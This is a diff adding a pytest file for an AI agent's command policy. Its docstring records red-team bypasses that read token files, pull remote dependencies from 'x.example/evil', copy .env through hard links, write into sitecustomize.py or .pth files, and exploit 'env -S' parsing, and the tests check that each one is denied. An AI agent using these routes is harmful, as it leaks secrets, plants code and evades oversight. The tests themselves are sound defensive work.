@@ -1,0 +1,445 @@
+"""Thirteenth red-team pass (command policy, 2026-12-04), issue 10: what it found and closed.
+
+Each class was shown by effect in a scratch directory (docs/policy.md, "Thirteenth pass"):
+
+* (a) class 9: token files a mature tool treats as secret were matched only at the top or
+  not at all: Composer's `auth.json` beside any composer.json (`packages/x/auth.json`,
+  `sub/app/auth.json`, a COMPOSER_HOME such as `ci/composer/auth.json`; Laravel's .gitignore
+  ignores the name at every depth), Google OAuth's `token.json`/`token.pickle`, dynaconf's
+  `.secrets.*`, Playwright storage states under `playwright/.auth/`, Terraform state by any
+  name. `cat packages/x/auth.json` printed the token.
+* (b) class 5: a dependency from a URL, VCS remote or a path out of the workspace, declared in
+  a project file (`x @ git+https://…` in pyproject.toml or requirements*.txt, `{ git = … }`
+  sources, `"x": "github:u/r"` in package.json) was installed by `pip install .`, `uv sync`,
+  `npm install`, `uv pip sync FILE`, `pip-compile FILE`, while the same source on the command
+  line is denied. Installs that read one ask now; a line that writes one into a Python project
+  or requirements file is denied. Shown with pip: `x @ file:///outside/x.whl` in
+  requirements.txt installed a wheel whose `.pth` ran at the next python start.
+* (c) class 8/9: `cp -r DIR`/`rsync -a DIR` copied a hard link of `.env` inside DIR to a new
+  file with one link and the secret's content: `cp -r vendor out; cat out/bar/data.txt`
+  printed the secret (the name check and the twin check both passed).
+* (d) class 8/11: protected files inside vendor directories (`.venv/…/sitecustomize.py`,
+  `site-packages/*.pth`, `.venv/bin/activate`) were not compared with a written file's hard
+  links: `echo … >> src/notes.py` appended code to sitecustomize.py (shown: it ran).
+* (e) class 4: GNU env puts the words of `-S STRING` in place and parses on: `env -S'cat' .env`
+  runs `cat .env`; the policy read `.env` as another program (asked) and `env -S tee
+  CLAUDE.md` as `tee` plus a program named CLAUDE.md.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from enforcement_agent.models import ToolRequest, Verdict
+from enforcement_agent.policy import Policy, load_policy
+from tests.policy.conftest import POLICY_DIR
+
+_CP = shutil.which("cp")
+
+
+@pytest.fixture(scope="module")
+def policy() -> Policy:
+    return load_policy(POLICY_DIR / "default.yaml")
+
+
+def _decide(
+    policy: Policy, ws: Path, command: str, role: str = "contributor"
+) -> tuple[Verdict, str]:
+    req = ToolRequest(tenant="acme", actor="a", role=role, tool="exec", command=command)
+    d = policy.decide(req, ws)
+    return d.decision, d.rule
+
+
+def _file(policy: Policy, ws: Path, action: str, path: str) -> tuple[Verdict, str]:
+    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool=action, path=path)
+    d = policy.decide(req, ws)
+    return d.decision, d.rule
+
+
+def _write(root: Path, files: dict[str, str]) -> None:
+    for rel, text in files.items():
+        (root / rel).parent.mkdir(parents=True, exist_ok=True)
+        (root / rel).write_text(text)
+
+
+# ---- (a) token files at any depth ---------------------------------------------------------------
+
+TOKEN_FILES = [
+    "packages/x/auth.json", "sub/app/auth.json", "apps/api/auth.json", "ci/composer/auth.json",
+    "php/auth.json", "auth.json", "backend/AUTH.json", "token.json", "scripts/token.json",
+    "tools/gmail/token.pickle", "config/.secrets.toml", ".secrets.yaml", "app/.secrets.json",
+    "playwright/.auth/user.json", "e2e/playwright/.auth/admin.json", "prod.tfstate",
+    "infra/envs/prod/prod.tfstate", "infra/x.tfstate.backup", "state/default.tfstate",
+    ".containers/auth.json",
+]  # fmt: skip
+READERS = ["cat {}", "rev {}", "base64 {}", "xxd {}", "cp {} out.txt", "grep -c . {}",
+           "head -n 3 {}", "jq . {}", "awk 1 {}", "sed -n p {}"]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def tokens_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("thirteenth-tokens") / "ws"
+    root.mkdir()
+    _write(root, {rel: '{"http-basic": {"x": {"password": "rt13"}}}\n' for rel in TOKEN_FILES})
+    _write(root, {"composer.json": "{}\n", "locales/en/auth.yaml": "x\n", "src/tokens.json": "{}\n",
+                  "src/tokenizer.json": "{}\n", "settings.toml": "x\n", "main.tf": "x\n",
+                  "notes.md": "x\n"})  # fmt: skip
+    return root
+
+
+@pytest.mark.parametrize("rel", TOKEN_FILES)
+@pytest.mark.parametrize("shape", READERS)
+def test_token_files_are_secret_at_any_depth(
+    policy: Policy, tokens_ws: Path, rel: str, shape: str
+) -> None:
+    verdict, rule = _decide(policy, tokens_ws, shape.format(rel))
+    assert verdict is Verdict.DENY, (shape, rel)
+    assert rule == "exec.secret-file", (shape, rel, rule)
+
+
+@pytest.mark.parametrize("rel", TOKEN_FILES)
+def test_token_files_are_secret_to_the_file_tools(
+    policy: Policy, tokens_ws: Path, rel: str
+) -> None:
+    assert _file(policy, tokens_ws, "read", rel)[0] is Verdict.DENY, rel
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["grep -r password .", "rg password", "tar czf out.tgz packages", "zip -r out.zip sub",
+     "cp -r packages copy", "find . -name '*.json' -exec cat {} +", "cat */*/auth.json",
+     "cat packages/*/auth.json", "git add -f packages/x/auth.json"],
+)  # fmt: skip
+def test_token_files_in_trees(policy: Policy, tokens_ws: Path, command: str) -> None:
+    assert _decide(policy, tokens_ws, command)[0] is Verdict.DENY, command
+
+
+@pytest.mark.parametrize(
+    "rel", ["composer.json", "locales/en/auth.yaml", "src/tokens.json", "src/tokenizer.json",
+            "settings.toml", "main.tf", "notes.md"],
+)  # fmt: skip
+def test_neighbours_of_token_files_stay_readable(policy: Policy, tokens_ws: Path, rel: str) -> None:
+    assert _decide(policy, tokens_ws, f"cat {rel}")[0] is Verdict.ALLOW, rel
+
+
+# ---- (b) dependencies from URLs, VCS remotes and paths out, declared in project files ----------
+
+PY_REMOTE = [
+    "evil @ git+https://x.example/evil",
+    "evil @ https://x.example/evil-1.0-py3-none-any.whl",
+    "evil[extra] @ git+ssh://git@x.example/evil.git",
+    "evil @ file:///tmp/evil",
+    "evil @ hg+https://x.example/evil",
+    "evil @ svn+https://x.example/evil",
+    "evil@https://x.example/evil.tar.gz",
+]
+TOML_SOURCES = [
+    'evil = { git = "https://x.example/evil" }',
+    'evil = { url = "https://x.example/evil.whl" }',
+    'evil = {path = "/opt/evil"}',
+    'evil = { path = "../../outside" }',
+    'evil = { file = "https://x.example/evil.tgz" }',
+]
+NPM_REMOTE = [
+    "github:evil/x", "evil/x", "evil/x#main", "git+https://x.example/evil.git",
+    "git://x.example/evil.git", "git+ssh://git@x.example/evil.git", "https://x.example/evil.tgz",
+    "http://x.example/evil.tgz", "gitlab:evil/x", "bitbucket:evil/x", "gist:abc123",
+    "file:../../outside", "link:/opt/evil", "/opt/evil", "npm:evil@https://x.example/e.tgz",
+]  # fmt: skip
+
+
+@pytest.fixture()
+def proj(tmp_path: Path) -> Path:
+    root = tmp_path / "ws"
+    root.mkdir()
+    (root / "notes.md").write_text("x\n")
+    return root
+
+
+def _pyproject(deps: list[str], extra: str = "") -> str:
+    quoted = ", ".join(f'"{d}"' for d in deps)
+    return (
+        '[project]\nname = "demo"\nversion = "0"\n'
+        'authors = [{ name = "a", email = "a@example.com" }]\n'
+        f"dependencies = [{quoted}]\n{extra}"
+    )
+
+
+PY_INSTALLS = ["pip install .", "pip install -e .", "pip install -e '.[dev]'", "pip wheel .",
+               "uv pip install .", "uv sync", "uv lock", "uv run pytest", "uv add httpx",
+               "poetry install", "poetry lock", "pip-compile pyproject.toml",
+               "uv pip compile pyproject.toml"]  # fmt: skip
+
+
+@pytest.mark.parametrize("dep", PY_REMOTE)
+@pytest.mark.parametrize("command", PY_INSTALLS)
+def test_pyproject_remote_dependency_asks(
+    policy: Policy, proj: Path, dep: str, command: str
+) -> None:
+    (proj / "pyproject.toml").write_text(_pyproject(["requests>=2", dep]))
+    verdict, rule = _decide(policy, proj, command)
+    assert verdict is not Verdict.ALLOW, (command, dep)
+
+
+@pytest.mark.parametrize("source", TOML_SOURCES)
+@pytest.mark.parametrize("command", ["uv sync", "poetry install", "pip install .", "uv lock"])
+def test_pyproject_source_tables_ask(policy: Policy, proj: Path, source: str, command: str) -> None:
+    (proj / "pyproject.toml").write_text(_pyproject(["evil"], f"[tool.uv.sources]\n{source}\n"))
+    assert _decide(policy, proj, command) == (Verdict.ASK, "exec.packages.project-source"), command
+
+
+@pytest.mark.parametrize("source", TOML_SOURCES)
+def test_pipfile_sources_ask(policy: Policy, proj: Path, source: str) -> None:
+    (proj / "Pipfile").write_text(
+        '[[source]]\nurl = "https://pypi.org/simple"\nname = "pypi"\n\n[packages]\n'
+        f'{source}\nrequests = "*"\n'
+    )
+    assert _decide(policy, proj, "pipenv install") == (Verdict.ASK, "exec.packages.project-source")
+
+
+@pytest.mark.parametrize(
+    "dep",
+    PY_REMOTE
+    + [
+        "git+https://x.example/evil",
+        "-i https://x.example/s",
+        "--extra-index-url https://x.example/s",
+        "-e git+https://x.example/e#egg=e",
+    ],
+)
+@pytest.mark.parametrize(
+    "command",
+    [
+        "uv pip sync reqs.in",
+        "uv pip compile reqs.in",
+        "pip-compile reqs.in",
+        "uv pip sync requirements/base.txt",
+    ],
+)
+def test_positional_requirement_files_are_read(
+    policy: Policy, proj: Path, dep: str, command: str
+) -> None:
+    for rel in ("reqs.in", "requirements/base.txt"):
+        (proj / rel).parent.mkdir(parents=True, exist_ok=True)
+        (proj / rel).write_text(f"requests\n{dep}\n")
+    assert _decide(policy, proj, command)[0] is Verdict.DENY, (command, dep)
+
+
+NPM_INSTALLS = ["npm install", "npm i", "npm ci", "npm install --save-dev", "pnpm install",
+                "pnpm i", "yarn", "yarn install", "bun install", "npm update"]  # fmt: skip
+
+
+@pytest.mark.parametrize("spec", NPM_REMOTE)
+@pytest.mark.parametrize("command", NPM_INSTALLS)
+def test_package_json_remote_dependency_asks(
+    policy: Policy, proj: Path, spec: str, command: str
+) -> None:
+    (proj / "package.json").write_text(
+        json.dumps({"name": "demo", "dependencies": {"lodash": "^4.17.21", "evil": spec}})
+    )
+    assert _decide(policy, proj, command)[0] is not Verdict.ALLOW, (command, spec)
+
+
+@pytest.mark.parametrize("section", ["devDependencies", "optionalDependencies", "peerDependencies",
+                                     "overrides", "resolutions"])  # fmt: skip
+def test_package_json_sections(policy: Policy, proj: Path, section: str) -> None:
+    (proj / "package.json").write_text(json.dumps({"name": "d", section: {"evil": "github:e/x"}}))
+    assert _decide(policy, proj, "npm install") == (Verdict.ASK, "exec.packages.project-source")
+
+
+def test_package_json_workspace_member(policy: Policy, proj: Path) -> None:
+    _write(proj, {"package.json": '{"name": "d", "workspaces": ["packages/*"]}',
+                  "packages/a/package.json": '{"name": "a", "dependencies": {"x": "^1"}}',
+                  "packages/b/package.json": '{"name": "b", "dependencies": {"e": "e/x"}}'})  # fmt: skip
+    assert _decide(policy, proj, "npm install") == (Verdict.ASK, "exec.packages.project-source")
+    assert _decide(policy, proj, "cd packages/b && npm install")[0] is Verdict.ASK
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["echo 'evil @ git+https://x.example/e' >> requirements.txt",
+     "echo 'evil @ https://x.example/e.whl' > requirements-dev.txt",
+     "printf 'git+https://x.example/e\\n' >> requirements/base.in",
+     "echo 'x @ file:///tmp/x.whl' >> constraints.txt",
+     "echo 'dependencies = [\"e @ git+https://x.example/e\"]' >> pyproject.toml",
+     "echo 'e = { git = \"https://x.example/e\" }' >> pyproject.toml",
+     "echo 'e = {url = \"https://x.example/e.whl\"}' | tee -a pyproject.toml",
+     "echo 'e = { git = \"https://x.example/e\" }' >> Pipfile",
+     "sed -i 's|^requests|e @ https://x.example/e.whl|' requirements.txt",
+     "printf 'e @ hg+https://x.example/e\\n' >> sub/requirements.txt",
+     "cat > requirements.txt <<'EOF'\nrequests\ne @ git+https://x.example/e\nEOF",
+     "echo 'install_requires = e @ https://x.example/e.whl' >> setup.cfg"],
+)  # fmt: skip
+def test_writing_a_remote_dependency_is_denied(policy: Policy, proj: Path, command: str) -> None:
+    (proj / "requirements.txt").write_text("requests\n")
+    assert _decide(policy, proj, command) == (Verdict.DENY, "exec.packages.project-source"), command
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["pip install .", "pip install -e .", "uv sync", "poetry install", "npm install", "npm ci",
+     "yarn", "pnpm install", "pip install requests", "npm install lodash",
+     "echo 'httpx>=0.27' >> requirements.txt", "echo 'email = \"a@example.com\"' >> pyproject.toml",
+     "echo 'see x @ https://x.example' >> notes.md", "uv pip sync requirements.txt",
+     "pip-compile requirements.txt", "cd sub && npm install"],
+)  # fmt: skip
+def test_project_file_controls(policy: Policy, proj: Path, command: str) -> None:
+    _write(proj, {
+        "pyproject.toml": _pyproject(["requests>=2", "local-lib"],
+                                     '[tool.uv.sources]\nlocal-lib = { path = "libs/local" }\n'
+                                     '[project.urls]\nHomepage = "https://x.example"\n'),
+        "libs/local/pyproject.toml": _pyproject([]),
+        "requirements.txt": "requests==2.32.3\n./libs/local\n",
+        "package.json": '{"name": "d", "repository": {"url": "git+https://github.com/a/b.git"},'
+                        ' "dependencies": {"lodash": "^4", "y": "npm:@scope/y@^1", '
+                        '"w": "workspace:*", "l": "file:./libs/js", "t": "latest"}}',
+        "sub/package.json": '{"name": "s", "dependencies": {"p": "file:../libs/js"}}',
+    })  # fmt: skip
+    assert _decide(policy, proj, command)[0] is Verdict.ALLOW, command
+
+
+# ---- (c) tree copies carry a hard link of a secret to a new file --------------------------------
+
+
+@pytest.fixture()
+def linked(tmp_path: Path) -> Path:
+    root = tmp_path / "ws"
+    _write(root, {".env": "MARKER=rt13hl\n", "notes.md": "x\n", "docs/index.md": "x\n"})
+    for rel in ("vendor/bar/data.txt", "node_modules/foo/README", "src/deep/x.txt",
+                ".venv/lib/python3.11/site-packages/pkg/LICENSE", "third_party/a/b/c.txt"):  # fmt: skip
+        (root / rel).parent.mkdir(parents=True, exist_ok=True)
+        os.link(root / ".env", root / rel)
+    return root
+
+
+COPIES = ["cp -r {} out", "cp -R {} out", "cp -a {} out", "cp -rL {} out", "cp -r {}/ out/",
+          "rsync -a {}/ out/", "rsync -r {} out", "cp -rp {} out", "busybox cp -r {} out",
+          "cp --recursive {} out"]  # fmt: skip
+
+
+@pytest.mark.parametrize("tree", ["vendor", "node_modules", "src", "third_party/a", ".venv"])
+@pytest.mark.parametrize("shape", COPIES)
+def test_tree_copy_of_a_secret_twin_is_denied(
+    policy: Policy, linked: Path, tree: str, shape: str
+) -> None:
+    verdict, rule = _decide(policy, linked, shape.format(tree))
+    assert verdict is Verdict.DENY, (shape, tree)
+
+
+def test_tree_copy_twin_by_effect(policy: Policy, linked: Path) -> None:
+    """What the decision prevents: the copy is a new file with one link and the secret."""
+    if _CP is None:
+        pytest.skip("cp is not installed")
+    assert _decide(policy, linked, "cp -r vendor out")[0] is Verdict.DENY
+    subprocess.run([_CP, "-r", "vendor", "out"], cwd=linked, check=True)
+    copied = linked / "out/bar/data.txt"
+    assert copied.read_text() == "MARKER=rt13hl\n" and copied.stat().st_nlink == 1
+    assert _decide(policy, linked, "cat out/bar/data.txt")[0] is Verdict.ALLOW  # too late then
+
+
+@pytest.mark.parametrize("command", ["cp -r docs out", "rsync -a docs/ out/", "mv vendor moved",
+                                     "cp notes.md out.md", "cp -r docs docs2"])  # fmt: skip
+def test_tree_copy_controls(policy: Policy, linked: Path, command: str) -> None:
+    assert _decide(policy, linked, command)[0] is Verdict.ALLOW, command
+
+
+# ---- (d) protected files in vendor directories, written through a hard link ---------------------
+
+VENDOR_PROTECTED = [
+    ".venv/lib/python3.11/site-packages/sitecustomize.py",
+    ".venv/lib/python3.11/site-packages/usercustomize.py",
+    ".venv/lib/python3.11/site-packages/evil.pth",
+    ".venv/bin/activate",
+    ".venv/bin/activate.fish",
+    ".venv/pyvenv.cfg",
+    "venv/lib/python3.12/site-packages/x.pth",
+    ".tox/py/lib/python3.11/site-packages/sitecustomize.py",
+    "node_modules/.cache/x/.github/workflows/ci.yml",
+    "node_modules/pkg/CLAUDE.md",
+]
+WRITES = ["echo x >> {}", "echo x > {}", "cp notes.md {}", "tee -a {} < notes.md",
+          "sed -i 1d {}", "truncate -s 0 {}", "printf x | dd of={} conv=notrunc",
+          "sort -o {} notes.md"]  # fmt: skip
+
+
+@pytest.fixture()
+def vendor_ws(tmp_path: Path) -> Path:
+    root = tmp_path / "ws"
+    _write(root, {"notes.md": "x\n", **{rel: "print(1)\n" for rel in VENDOR_PROTECTED}})
+    for n, rel in enumerate(VENDOR_PROTECTED):
+        (root / f"src/twin{n}.py").parent.mkdir(parents=True, exist_ok=True)
+        os.link(root / rel, root / f"src/twin{n}.py")
+    (root / "src/plain.py").write_text("x\n")
+    return root
+
+
+@pytest.mark.parametrize("n", range(len(VENDOR_PROTECTED)))
+@pytest.mark.parametrize("shape", WRITES)
+def test_write_to_twin_of_vendor_protected_file(
+    policy: Policy, vendor_ws: Path, n: int, shape: str
+) -> None:
+    verdict, rule = _decide(policy, vendor_ws, shape.format(f"src/twin{n}.py"))
+    assert verdict is Verdict.DENY, (shape, VENDOR_PROTECTED[n])
+    assert rule == "exec.protected-path", (shape, VENDOR_PROTECTED[n], rule)
+
+
+@pytest.mark.parametrize("n", range(len(VENDOR_PROTECTED)))
+def test_file_tool_write_to_twin_of_vendor_protected_file(
+    policy: Policy, vendor_ws: Path, n: int
+) -> None:
+    assert _file(policy, vendor_ws, "write", f"src/twin{n}.py")[0] is Verdict.DENY
+
+
+@pytest.mark.parametrize("command", ["echo x >> src/plain.py", "cat src/twin0.py", "rm src/twin1.py",
+                                     "cp src/plain.py src/new.py", "ls -la src"])  # fmt: skip
+def test_vendor_twin_controls(policy: Policy, vendor_ws: Path, command: str) -> None:
+    assert _decide(policy, vendor_ws, command)[0] is Verdict.ALLOW, command
+
+
+# ---- (e) env -S: the split words in place, the rest parsed on -----------------------------------
+
+ENV_SPLIT = [
+    "env -S'cat' .env", "env -S 'cat' .env", "env -S cat .env", "env -Scat .env",
+    "env -iS cat .env", "env -iScat .env", "env -vS cat .env", "env --split-string=cat .env",
+    "env --split-string cat .env", "env --sp=cat .env", "env --split=cat .env",
+    "env -S '-i cat' .env", "env -S 'cat -A' .env", "env -S 'sh -c' 'cat .env'",
+    "env -S tee CLAUDE.md", "env -S 'tee -a' .github/workflows/ci.yml", "env -S rm CLAUDE.md",
+    "env -S 'cp notes.md' CLAUDE.md", "env -S 'python3' -c 'import os'", "env -S 'rm -rf' .github",
+    "env -C sub -S cat ../.env", "env -S 'env -S cat' .env", "env -S 'xargs cat' .env",
+]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def env_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("thirteenth-env") / "ws"
+    _write(root, {".env": "MARKER=rt13\n", "notes.md": "x\n", "CLAUDE.md": "x\n",
+                  ".github/workflows/ci.yml": "x\n", "sub/x": "x\n"})  # fmt: skip
+    return root
+
+
+@pytest.mark.parametrize("command", ENV_SPLIT)
+def test_env_split_string_words_in_place(policy: Policy, env_ws: Path, command: str) -> None:
+    assert _decide(policy, env_ws, command)[0] is Verdict.DENY, command
+
+
+@pytest.mark.parametrize("command", ["env -S 'ls -la'", "env -S ls", "env -S 'git status'",
+                                     "env -S cat notes.md", "env -S 'CI=1 make'",
+                                     "env -iS 'LANG=C sort' notes.md", "env CI=1 npm test"])  # fmt: skip
+def test_env_split_controls(policy: Policy, env_ws: Path, command: str) -> None:
+    assert _decide(policy, env_ws, command)[0] is Verdict.ALLOW, command
+
+
+def test_env_split_by_effect(tmp_path: Path) -> None:
+    """GNU env -S puts its words in place: the operand after it is an argument, not a program."""
+    env = shutil.which("env")
+    if env is None:
+        pytest.skip("env is not installed")
+    (tmp_path / ".env").write_text("MARKER=rt13\n")
+    out = subprocess.run([env, "-Scat", ".env"], cwd=tmp_path, capture_output=True, text=True)
+    assert out.stdout == "MARKER=rt13\n"
